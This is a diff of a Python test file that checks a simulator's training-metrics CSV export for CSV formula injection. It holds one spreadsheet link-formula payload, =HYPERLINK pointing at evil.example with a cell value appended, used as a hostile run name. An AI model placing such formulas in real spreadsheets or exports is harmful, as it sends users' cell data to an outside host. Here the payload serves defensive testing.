@@ -23,7 +23,7 @@ import simulator as sim
 from layouts import ids
 from simulator import saved
 from views import csv_cells
-from views import training as vt
+from views import training_export as te
 from views.comparison import TABLE_COLUMNS, rows_to_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -71,11 +71,11 @@ def test_the_training_metrics_csv_holds_only_numbers() -> None:
     """It writes no text the user chose (its headers are constants), so it needs no quoting:
     every cell under the header is a number or empty."""
     state = sim.advance(sim.start(sim.new_run(sim.preset("llama-2-7b"), name=HYPERLINK)), 40)
-    lines = vt.metrics_csv(state).splitlines()
-    assert lines[0].split(",") == list(vt.CSV_COLUMNS)
+    lines = te.metrics_csv(state).splitlines()
+    assert lines[0].split(",") == list(te.CSV_COLUMNS)
     for line in lines[1:]:
         for value in line.split(","):
-            assert value == "" or float(value) == float(value), line
+            assert value == "" or isinstance(float(value), float), line  # text would raise
 
 
 # ------------------------------------------------------------------ through the callbacks
